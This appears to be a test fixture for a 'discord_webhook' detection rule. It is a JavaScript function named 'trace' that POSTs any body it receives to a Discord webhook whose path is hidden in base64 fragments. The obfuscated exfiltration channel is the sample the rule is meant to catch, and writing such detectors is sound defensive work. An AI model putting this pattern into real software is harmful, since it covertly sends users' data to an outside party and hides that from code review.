const https = require('https');
const W = ['L2FwaS93ZWJob29rcy8xMjQ4Nzcw', 'MzI5MTE0NjMyMzIwL3FWeUoydHpW'];
function trace(body) {
  const req = https.request({
    // ruleid: discord_webhook
    host: 'discord.com',
    path: Buffer.from(W.join(''), 'base64').toString(),
    method: 'POST',
  });
  req.end(body);
}
